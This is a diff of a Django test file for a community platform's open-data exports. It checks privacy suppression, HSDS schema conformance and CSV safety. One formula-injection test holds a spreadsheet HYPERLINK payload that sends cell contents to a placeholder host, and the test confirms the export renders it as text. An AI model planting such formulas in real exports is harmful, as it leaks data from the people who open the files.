@@ -8,18 +8,18 @@ from django.urls import reverse
 
 from trama.attention.models import Signal
 from trama.initiatives.models import Initiative
+from trama.insights.queries import open_counts
 from trama.market import services as market
 from trama.people.models import Person, Role
-from trama.territory.models import Place
-from trama.privacy.disclosure import protect, recoverable_cells as recoverable
-from trama.insights.queries import open_counts
+from trama.privacy.disclosure import protect
+from trama.privacy.disclosure import recoverable_cells as recoverable
 from trama.privacy.suppression import suppress_table
+from trama.territory.models import Place
 
 pytestmark = pytest.mark.django_db
 
 # signals per (neighbourhood, quarter of 2025)
-SIGNALS = {("Borgo Alto", 1): 3, ("Borgo Alto", 2): 12, ("Borgo Basso", 1): 15, ("Borgo Basso", 2): 11,
-           ("Borgo Nuovo", 1): 20, ("Borgo Nuovo", 2): 2}
+SIGNALS = {("Borgo Alto", 1): 3, ("Borgo Alto", 2): 12, ("Borgo Basso", 1): 15, ("Borgo Basso", 2): 11, ("Borgo Nuovo", 1): 20, ("Borgo Nuovo", 2): 2}
 
 
 @pytest.fixture
@@ -92,12 +92,27 @@ def directory(city, neighbourhood, users, make_organisation, make_person, make_a
 
 
 OPEN_URLS = [
-    reverse("insights:open_data"), reverse("insights:open_data_csv"), reverse("insights:places"), reverse("insights:hsds_json"),
-    reverse("insights:hsds_csv", args=["organizations"]), reverse("insights:hsds_csv", args=["services"]),
+    reverse("insights:open_data"),
+    reverse("insights:open_data_csv"),
+    reverse("insights:places"),
+    reverse("insights:hsds_json"),
+    reverse("insights:hsds_csv", args=["organizations"]),
+    reverse("insights:hsds_csv", args=["services"]),
     reverse("insights:hsds_csv", args=["locations"]),
 ]
-PRIVATE_WORDS = ["Gino", "Pseudonimo", "Sfratto", "affitto", "Beve molto", "non mangia", "Vive da sola", "80 anni",
-                 "Sede riservata", "Cineforum sospeso", "fragile"]
+PRIVATE_WORDS = [
+    "Gino",
+    "Pseudonimo",
+    "Sfratto",
+    "affitto",
+    "Beve molto",
+    "non mangia",
+    "Vive da sola",
+    "80 anni",
+    "Sede riservata",
+    "Cineforum sospeso",
+    "fragile",
+]
 
 
 @pytest.mark.parametrize("url", OPEN_URLS)
@@ -168,8 +183,7 @@ def test_random_tables_of_small_counts_never_reveal_a_hidden_count():
 
 
 @pytest.fixture
-def community(neighbourhood, other_neighbourhood, make_group, make_meeting, make_initiative, make_person, take_part,
-              make_organisation):
+def community(neighbourhood, other_neighbourhood, make_group, make_meeting, make_initiative, make_person, take_part, make_organisation):
     """12 groups of Borgo Alto born in the first quarter of 2025 and 11 of Borgo Basso in the second, each meeting once
     in the quarter it was born; public initiatives of 2025 (one in both neighbourhoods) and some that are not public."""
     for i in range(12):
@@ -177,10 +191,10 @@ def community(neighbourhood, other_neighbourhood, make_group, make_meeting, make
     for i in range(11):
         make_meeting(other_neighbourhood, date(2025, 5, 1), make_group(other_neighbourhood, date(2025, 4, 20), name=f"B{i}"))
     accompanied = [(Initiative.Stage.INCUBATION, date(2025, 2, 1)), (Initiative.Stage.ACCOMPANIED, date(2025, 2, 2))]
-    both = make_initiative([neighbourhood, other_neighbourhood], date(2025, 1, 10), accompanied, name="Orto di via Verdi",
-                           public=True)
-    Initiative.objects.filter(pk=both.pk).update(origin_organisation=make_organisation("Orti insieme"),
-                                                 contact_email="orto@example.org", how_to_join="Il sabato mattina")
+    both = make_initiative([neighbourhood, other_neighbourhood], date(2025, 1, 10), accompanied, name="Orto di via Verdi", public=True)
+    Initiative.objects.filter(pk=both.pk).update(
+        origin_organisation=make_organisation("Orti insieme"), contact_email="orto@example.org", how_to_join="Il sabato mattina"
+    )
     take_part(both, make_person(name="Gino Pseudonimo"), date(2025, 2, 1))
     make_initiative([neighbourhood], date(2025, 2, 10), accompanied, name="Senza realtà", public=True)  # no organisation
     make_initiative([neighbourhood], date(2025, 2, 10), name="Solo un'idea", public=True)  # not public yet: an idea
@@ -218,20 +232,49 @@ HSDS_SCHEMA = {
     "type": "object",
     "required": ["organizations", "services", "locations"],
     "properties": {
-        "organizations": {"type": "array", "items": {
-            "type": "object", "required": ["id", "name", "description"],
-            "properties": {"id": {"type": "string", "format": "uuid"}, "name": {"type": "string", "minLength": 1},
-                           "description": {"type": "string"}, "email": {"type": "string"}, "website": {"type": "string"}}}},
-        "services": {"type": "array", "items": {
-            "type": "object", "required": ["id", "organization_id", "name", "status"],
-            "properties": {"id": {"type": "string"}, "organization_id": {"type": "string"}, "name": {"type": "string", "minLength": 1},
-                           "description": {"type": "string"}, "email": {"type": "string"},
-                           "application_process": {"type": "string"},
-                           "status": {"enum": ["active", "inactive", "defunct", "temporarily closed"]}}}},
-        "locations": {"type": "array", "items": {
-            "type": "object", "required": ["id", "location_type"],
-            "properties": {"id": {"type": "string"}, "location_type": {"enum": ["physical", "postal", "virtual"]},
-                           "latitude": {"type": ["number", "null"]}, "longitude": {"type": ["number", "null"]}}}},
+        "organizations": {
+            "type": "array",
+            "items": {
+                "type": "object",
+                "required": ["id", "name", "description"],
+                "properties": {
+                    "id": {"type": "string", "format": "uuid"},
+                    "name": {"type": "string", "minLength": 1},
+                    "description": {"type": "string"},
+                    "email": {"type": "string"},
+                    "website": {"type": "string"},
+                },
+            },
+        },
+        "services": {
+            "type": "array",
+            "items": {
+                "type": "object",
+                "required": ["id", "organization_id", "name", "status"],
+                "properties": {
+                    "id": {"type": "string"},
+                    "organization_id": {"type": "string"},
+                    "name": {"type": "string", "minLength": 1},
+                    "description": {"type": "string"},
+                    "email": {"type": "string"},
+                    "application_process": {"type": "string"},
+                    "status": {"enum": ["active", "inactive", "defunct", "temporarily closed"]},
+                },
+            },
+        },
+        "locations": {
+            "type": "array",
+            "items": {
+                "type": "object",
+                "required": ["id", "location_type"],
+                "properties": {
+                    "id": {"type": "string"},
+                    "location_type": {"enum": ["physical", "postal", "virtual"]},
+                    "latitude": {"type": ["number", "null"]},
+                    "longitude": {"type": ["number", "null"]},
+                },
+            },
+        },
     },
 }
 
@@ -249,8 +292,7 @@ def test_the_directory_follows_the_hsds_schema_and_every_service_has_its_organis
 def test_a_title_that_looks_like_a_formula_goes_out_as_text(client, city, neighbourhood, users, directory):
     """Formula injection: the directory and the counts are opened in spreadsheets by whoever downloads them."""
     evil = '=HYPERLINK("http://x.example/?"&A1,"Aiuto")'
-    market.record_offer(person=None, organisation=directory, kind="time", title=evil, neighbourhoods=[neighbourhood],
-                        by=users[Role.WORKER])
+    market.record_offer(person=None, organisation=directory, kind="time", title=evil, neighbourhoods=[neighbourhood], by=users[Role.WORKER])
     directory.name = "@Associazione"
     directory.save()
     services = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["services"])).content.decode())))
